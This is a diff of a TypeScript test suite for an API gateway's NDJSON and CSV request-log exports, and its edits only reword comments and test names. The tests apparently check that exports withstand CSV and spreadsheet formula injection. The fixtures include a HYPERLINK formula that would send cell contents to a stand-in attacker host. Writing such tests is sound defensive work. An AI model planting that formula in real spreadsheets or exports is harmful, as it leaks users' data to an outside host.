@@ -15,7 +15,7 @@ closeAfter(gateway, upstream)
 const ask = askOf(gateway)
 const leaked = await gateway.createKey('leaked', { log_requests: false })
 
-/** Names of models that a spreadsheet, or a reader of lines or of CSV, would trip over. */
+/** Model names that could break a spreadsheet or a line or CSV parser. */
 const hostileModels = [
   '=HYPERLINK("http://evil.test/?"&A1,"x")',
   '+1-1',
@@ -62,7 +62,7 @@ await fetch(`${gateway.url}/v1/models`, { headers: { authorization: `Bearer ${ot
 )
 clock.set('2026-12-01T13:14:15.678Z')
 await gateway.revokeKey(leaked.id)
-// The balance goes below zero: a negative number, which is no formula.
+// The balance becomes negative: a negative number, not a formula.
 await gateway.manage('POST', '/gateway/v1/credits', { amount_usd: 0.000000001, reason: 'the least' })
 
 const calls = hostileModels.length + hostileAgents.length + hostilePaths.length
@@ -89,7 +89,7 @@ const forms = [
   ['csv', 'text/csv; charset=utf-8'],
 ] as const
 for (const [format, type] of forms) {
-  test(`GET /v1/keys/{id}/requests 200: as ${format} it is a file of its type and name, which no cache keeps`, async () => {
+  test(`GET /v1/keys/{id}/requests 200: ${format} is a named file of its type, without caching`, async () => {
     const { headers } = await get(`${ofLeaked}?format=${format}`)
     assert.equal(headers.get('content-type'), type)
     assert.equal(headers.get('cache-control'), 'no-store')
@@ -103,7 +103,7 @@ for (const [format, type] of forms) {
   })
 }
 
-test('GET /v1/keys/{id}/requests 200: as NDJSON each line is a request as the list shows it', async () => {
+test('GET /v1/keys/{id}/requests 200: each NDJSON line equals a request of the list', async () => {
   const rows = await listed(`${ofLeaked}?limit=1000`)
   assert.equal(rows.length, calls)
   const lines = linesOf((await get(`${ofLeaked}?format=ndjson`)).text)
@@ -115,7 +115,7 @@ test('GET /v1/keys/{id}/requests 200: as NDJSON each line is a request as the li
   for (const model of hostileModels) assert.ok(models.includes(model), JSON.stringify(model))
 })
 
-test('GET /v1/keys/{id}/requests 200: as CSV each row is a request, and its counts are columns', async () => {
+test('GET /v1/keys/{id}/requests 200: each CSV row is a request, with counts as columns', async () => {
   const rows = await listed(`${ofLeaked}?limit=1000`)
   const [head = [], ...body] = readCsv((await get(`${ofLeaked}?format=csv`)).text)
   const [some = {}] = rows
@@ -139,7 +139,7 @@ test('GET /v1/keys/{id}/requests 200: as CSV each row is a request, and its coun
   }
 })
 
-test('GET /gateway/v1/requests 200: an export is all that matches, filtered and limited as a list is', async () => {
+test('GET /gateway/v1/requests 200: an export has every match, with the filters and limit of a list', async () => {
   const count = async (query: string) => linesOf((await get(`/gateway/v1/requests?${query}`)).text).length
   assert.equal(await count('format=ndjson'), calls + 1)
   assert.equal(await count('format=ndjson&limit=5'), 5)
